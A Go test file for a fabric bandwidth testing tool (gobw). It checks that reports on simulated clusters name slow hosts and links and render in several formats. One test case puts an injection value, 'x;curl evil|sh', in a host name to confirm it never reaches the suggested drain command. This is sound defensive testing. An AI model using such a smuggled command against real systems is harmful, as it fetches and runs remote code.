package simulate

import (
	"bytes"
	"context"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"github.com/gobw/gobw/internal/cli/cmd/compare"
	show "github.com/gobw/gobw/internal/cli/cmd/report"
	"github.com/gobw/gobw/internal/cli/exit"
	"github.com/gobw/gobw/internal/cli/output"
	"github.com/gobw/gobw/internal/fabric/judge"
	"github.com/gobw/gobw/internal/fabric/rankzero"
	"github.com/gobw/gobw/internal/fabric/schedule"
	"github.com/gobw/gobw/internal/plan"
	"github.com/gobw/gobw/report"
	"github.com/gobw/gobw/report/expect"
	"github.com/gobw/gobw/report/matrix"
	"github.com/gobw/gobw/report/plot"
	"github.com/gobw/gobw/report/render"
	"github.com/gobw/gobw/report/stats"
	"github.com/gobw/gobw/verbs"
)

// simulated is the document of a simulated fabric, as rank 0 makes it.
func simulated(t *testing.T, pattern schedule.Pattern, c Config) *report.Document {
	t.Helper()
	s := schedule.New(pattern, c.Hosts, 100, c.Seed)
	d := &report.Document{
		Schema: report.SchemaVersion, Tool: "gobw", Started: time.Unix(1700000000, 0).UTC(),
		Finished: time.Unix(1700000060, 0).UTC(), Complete: true,
		Fabric: &matrix.Matrix{
			Pattern: string(s.Pattern), Planned: s.Rounds, Rails: []string{"mlx5_0"}, Launcher: "Slurm step 7.0",
		},
	}
	m := d.Fabric
	for i := range c.Hosts {
		h := matrix.Host{Rank: i, Name: fmt.Sprintf("host%d", i), Verdict: stats.Verdict{Word: stats.Pass}}
		if c.Leaf != nil {
			h.Leaf = fmt.Sprintf("leaf%d", c.Leaf[i])
			if last := len(m.Leaves) - 1; last < 0 || m.Leaves[last] != h.Leaf {
				m.Leaves = append(m.Leaves, h.Leaf)
			}
		}
		m.Hosts = append(m.Hosts, h)
	}
	c.Noise = 0.01
	j := Judge(New(c), s, judge.Config{Seed: 1})
	rankzero.Conclude(d,
		j, plan.Spec{Operation: plan.Write, Kind: plan.Bandwidth, Transport: verbs.RC, Sizes: []int{65536}}, time.Second)
	d.Checks = rankzero.Checks(d)
	return d
}

// saved is a document in a file.
func saved(t *testing.T, d *report.Document) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "fabric.json")
	if err := report.Save(path, d); err != nil {
		t.Fatal(err)
	}
	return path
}

// ran is what a command said, and its exit status.
func ran(t *testing.T, of func(string, output.Streams) *cobra.Command, args ...string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	cmd := of("gobw", output.Streams{Out: &out, Err: &out})
	cmd.SetArgs(args)
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	cmd.SetOut(&out)
	cmd.SetErr(&out)
	err := cmd.ExecuteContext(context.Background())
	if err != nil {
		fmt.Fprintln(&out, err)
	}
	return out.String(), exit.Code(err)
}

// TestReport: a fabric's result is rendered as any other, in every format.
func TestReport(t *testing.T) {
	leaf := make([]int, 16)
	for i := range leaf {
		leaf[i] = i / 4
	}
	path := saved(t, simulated(t, schedule.Pairs, Config{Hosts: 16, Leaf: leaf, Seed: 2, Plants: []Plant{
		{Kind: Host, A: 3, Factor: 0.8}, {Kind: Link, A: 7, B: 9, Factor: 0.5}, {Kind: Dead, A: 5},
	}}))
	for format, wants := range map[string][]string{
		"table": {
			"FAIL: 1 slow host, 1 not connected host, 1 slow link. 16 of 16 hosts", "Tested 240 of 240 ordered pairs",
			"a host that is 5 % slower", "host7 -> host9",
			"--exclude=host3,host5", "between leaves",
		},
		"html":        {"<svg", "host7 -&gt; host9: 50", "host15"},
		"junit":       {"host7 -&gt; host9: the link is good", "host3: the host is good"},
		"openmetrics": {`gobw_expectation_met{`, `point="host3"} 0`, `node="host7",side="sending"`, "# EOF"},
		"csv":         {"host12,receiving", "same leaf"},
		"markdown":    {"**FAIL", "host7 -"},
	} {
		out, code := ran(t, show.NewCommand, path, "--format", format)
		command := "\n  scontrol update nodename=host3,host5 state=drain reason=\"gobw fabric 2023-11-14\"\n"
		if format == "table" &&
			!strings.Contains(out, command) {
			t.Errorf("no line that is %q, to paste, in\n%s", command, out)
		}
		for _, want := range wants {
			if !strings.Contains(strings.Join(strings.Fields(out), " "), strings.Join(strings.Fields(want), " ")) {
				t.Errorf("%s, exit status %d: %q is missing in\n%.6000s", format, code, want, out)
			}
		}
	}
	incast := saved(t, simulated(t, schedule.Incast, Config{Hosts: 16, Seed: 2}))
	if out, _ := ran(t, show.NewCommand, incast); !strings.Contains(out, "Incast") ||
		!strings.Contains(out, "against one sender") {
		t.Error(out)
	}
}

// small is a run of three hosts, of which one is slow and one never came.
func small() *matrix.Matrix {
	m := &matrix.Matrix{
		Pattern: "pairs", Planned: 1, Launcher: "Slurm step 7.0",
		Rounds: []matrix.Round{{Label: "pairs 1"}, {Label: "re-test", Retest: true}}, Rails: []string{"mlx5_0"},
		Hosts: []matrix.Host{
			{Rank: 0, Name: "node1", Verdict: stats.Verdict{Word: stats.Pass}},
			{Rank: 2, Name: "node2", Verdict: stats.Verdict{Word: stats.Pass}},
			{Rank: 1, Name: "node3", Verdict: stats.Failure(matrix.Absent, "look there", "did not come within 1m0s")},
		},
		Findings: []matrix.Finding{
			{Subject: matrix.Sender, From: 1, To: 1, Verdict: stats.Failure(matrix.Slow, "see it alone", "one direction")},
		},
		Judged: matrix.Judged{Sigma: 0.01, Slow: 0.05, HostPower: 0.05, LinkPower: 0.05, Tested: 2, Pairs: 2, Retests: 1},
	}
	m.Cells.Add(0, 1, 0, 0, matrix.Measured, 1e11, 1)
	return m
}

// TestVerdict: the first word is the verdict of all that is judged; nobody is told to drain a host on
// which a rank too many was refused, or hosts of a run that did not begin; and a name that is none
// for a host does not come into a command.
func TestVerdict(t *testing.T) {
	good := func(m *matrix.Matrix) { m.Findings, m.Hosts = nil, m.Hosts[:2] }
	missed := report.Check{Expression: "bw >= 90Gb/s", Verdict: stats.Verdict{Word: stats.Fail}}
	for name, tt := range map[string]struct {
		change     func(*matrix.Matrix)
		expect     []report.Check
		want, lack string
	}{
		"slow": {
			func(*matrix.Matrix) {}, nil, "FAIL: 1 slow host, 1 absent host. 2 of 3 hosts, 1 rail, 1 round and 1 re-test.", "",
		},
		"told": {func(*matrix.Matrix) {}, nil, "node2: see it alone", ""},
		"list": {
			func(*matrix.Matrix) {}, nil, "--exclude=node2 To drain (not run): scontrol update nodename=node2 state=drain",
			"node2,node3",
		},
		"no Slurm": {func(m *matrix.Matrix) { m.Launcher = "" }, nil, "To run without them, leave out: node2", "scontrol"},
		"refused": {
			func(m *matrix.Matrix) { m.Findings = nil; m.Hosts[2].Cause = matrix.Unfit }, nil, "1 unfit host", "drain",
		},
		"killed": {func(m *matrix.Matrix) { m.Findings = nil; m.Hosts[2].Cause = matrix.Lost }, nil, "1 lost host", "drain"},
		"absent": {func(m *matrix.Matrix) { m.Findings = nil }, nil, "1 absent host", "exclude"},
		"good":   {good, nil, "PASS: nothing bad found. 2 of 2 hosts", ""},
		"cannot tell": {func(m *matrix.Matrix) {
			good(m)
			m.Findings = []matrix.Finding{{Subject: matrix.Link, To: 1, Verdict: stats.Unknown(stats.Unclear, "", "")}}
		}, nil, ": 1 unclear link.", ""},
		"missed":  {good, []report.Check{missed, missed}, "FAIL: 2 missed expectations. 2 of 2 hosts", "exclude"},
		"stopped": {func(m *matrix.Matrix) { good(m); m.Planned = 9 }, nil, "after 1 of 9 rounds", ""},
		"no power": {
			func(m *matrix.Matrix) { good(m); m.Judged.HostPower = 0 }, nil,
			": too noisy (1 % from one measurement to the next). 2 of 2 hosts", "undecided",
		},
		"what would help": {
			func(m *matrix.Matrix) { good(m); m.Judged.HostPower, m.Judged.Settle = 0, "a quiet night" }, nil,
			"What to do next run: try a quiet night", "--time",
		},
		"nothing measured": {
			func(m *matrix.Matrix) { good(m); m.Cells = matrix.Cells{} }, nil, ": nothing was measured.", "",
		},
		"a rank too many": {
			func(m *matrix.Matrix) { m.Findings, m.Hosts[2].Name = nil, "node1" }, nil, "1 absent host", "exclude",
		},
		"did not begin": {
			func(m *matrix.Matrix) { m.Rounds, m.Cells = nil, matrix.Cells{} }, nil, "No round was run", "exclude",
		},
		"a command": {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, "--exclude=node2 To drain", "=x;"},
	} {
		d := &report.Document{Complete: true, Fabric: small()}
		tt.change(d.Fabric)
		d.Checks = append(rankzero.Checks(d), tt.expect...)
		var got bytes.Buffer
		if err := render.Documents(&got, "table", []*report.Document{d}); err != nil ||
			!strings.Contains(strings.Join(strings.Fields(got.String()), " "), tt.want) ||
			tt.lack != "" && strings.Contains(got.String(), tt.lack) {
			t.Errorf("%s: %v, want %q\n%s", name, err, tt.want, got.String())
		}
	}
}

// TestCompareRuns: two runs are compared host by host, by the verdict of all comparisons.
// Rounds are repetitions, hosts are none.
func TestCompareRuns(t *testing.T) {
	before := saved(t, simulated(t, schedule.Pairs, Config{Hosts: 16, Seed: 1}))
	for name, tt := range map[string]struct {
		plants []Plant
		worse  []string
		code   int
	}{
		"as it was":                       {nil, nil, exit.Passed},
		"all slower by less than matters": {everyone(16, 0.98), nil, exit.Passed},
		"a slow host":                     {[]Plant{{Kind: Sender, A: 3, Factor: 0.8}}, []string{"host3"}, exit.Missed},
		"all slower":                      {everyone(16, 0.85), []string{"host3", "host9", "all paths"}, exit.Missed},
	} {
		t.Run(name, func(t *testing.T) {
			now := saved(t, simulated(t, schedule.Pairs, Config{Hosts: 16, Seed: 7, Plants: tt.plants}))
			out, code := ran(t, compare.NewCommand, before, now, "--expect", "worse<5%")
			for _, want := range tt.worse {
				if !strings.Contains(out, want) {
					t.Errorf("%s is missing in\n%s", want, out)
				}
			}
			if code != tt.code {
				t.Errorf("exit status %d, want %d\n%.5000s", code, tt.code, out)
			}
		})
	}
}

// TestExpectNotWorse: what must hold of a run may be another run, as of any other result: --expect 'worse<5% of FILE'.
func TestExpectNotWorse(t *testing.T) {
	before := saved(t, simulated(t, schedule.Pairs, Config{Hosts: 16, Seed: 1}))
	for name, tt := range map[string]struct {
		plants []Plant
		word   stats.Word
		says   string
	}{
		"as it was":   {nil, stats.Pass, ""},
		"a slow host": {[]Plant{{Kind: Sender, A: 3, Factor: 0.8}}, stats.Fail, "host3"},
		"all slower":  {everyone(16, 0.85), stats.Fail, ""},
	} {
		t.Run(name, func(t *testing.T) {
			e, err := expect.Parse("worse<5% of "+before, expect.Options{Dir: "."})
			if err != nil {
				t.Fatal(err)
			}
			now := simulated(t, schedule.Pairs, Config{Hosts: 16, Seed: 7, Plants: tt.plants})
			var words []stats.Word
			said := ""
			for _, c := range expect.Judge(now, []*expect.Expectation{e}, expect.Judgement{}) {
				words = append(words, c.Word)
				said += fmt.Sprintln(c.Point, c.Actual, c.Reason)
			}
			if got := stats.Gravest(words...); len(words) == 0 || got != tt.word || !strings.Contains(said, tt.says) {
				t.Errorf("%s, want %s and %q in\n%.4000s", got, tt.word, tt.says, said)
			}
		})
	}
}

// TestHeatMap holds the picture of a fabric to what it was; GOBW_UPDATE=1 writes it anew.
func TestHeatMap(t *testing.T) {
	d := simulated(t, schedule.Pairs, Config{
		Hosts: 12, Leaf: leavesOf(12, 4), Seed: 2,
		Plants: []Plant{{Kind: Host, A: 3, Factor: 0.8}, {Kind: Link, A: 7, B: 9, Factor: 0.5}, {Kind: Dead, A: 5}},
	})
	var got bytes.Buffer
	if err := render.Documents(&got, "svg", []*report.Document{d}); err != nil {
		t.Fatal(err)
	}
	keep(t, "testdata/heat.svg", got.Bytes())
}

// keep holds a picture to what it was.
func keep(t *testing.T, file string, got []byte) {
	t.Helper()
	if os.Getenv("GOBW_UPDATE") != "" {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if want, err := os.ReadFile(file); err != nil || !bytes.Equal(got, want) {
		t.Errorf("%s is another picture (%v): look at what GOBW_UPDATE=1 makes of it", file, err)
	}
}

// TestPictureOfTheDocuments: the README's picture of a verdict. It is small enough for a
// phone, so it names only what is slow.
func TestPictureOfTheDocuments(t *testing.T) {
	const hosts = 64
	d := simulated(t, schedule.Pairs, Config{
		Hosts: hosts, Seed: 4, Plants: []Plant{{Kind: Host, A: 17, Factor: 0.6}, {Kind: Link, A: 3, B: 41, Factor: 0.5}},
	})
	var text bytes.Buffer
	if err := render.Documents(&text, "table", []*report.Document{d}); err != nil {
		t.Fatal(err)
	}
	verdict, _, _ := strings.Cut(strings.TrimSpace(text.String()), "\n\n")
	m := d.Fabric
	h := &plot.HeatMap{
		Title:    strings.Join(strings.Fields(verdict), " "),
		Subtitle: "Simulated. Share of the expected bandwidth, from each of 64 hosts to each other", XLabel: "receiver",
		YLabel: "sender",
		Rows:   make([]string, hosts), Columns: make([]string, hosts), Categories: []string{"faster", "slower than expected"},
		Square: 5.5,
		Note:   "Full colour: half of it, or less. White: within 3%.",
	}
	h.Fill()
	for i := range m.Cells.Len() {
		if by := 1 - m.Cells.Share[i]; m.Scheduled(i) && math.Abs(by) > 0.03 {
			h.Cells[m.Cells.From[i]][m.Cells.To[i]] = plot.Cell{
				Category: 1 + int(math.Round(0.5+by)), Strength: 2 * math.Abs(by),
			}
		}
	}
	for _, f := range m.Findings {
		h.Rows[f.From], h.Columns[f.To] = m.Hosts[f.From].Name, m.Hosts[f.To].Name
	}
	var got bytes.Buffer
	if err := plot.WriteSVG(&got, h); err != nil {
		t.Fatal(err)
	}
	keep(t, "../../../docs/images/fabric.svg", got.Bytes())
}

func everyone(hosts int, factor float64) []Plant {
	var out []Plant
	for h := range hosts {
		out = append(out, Plant{Kind: Sender, A: h, Factor: factor})
	}
	return out
}
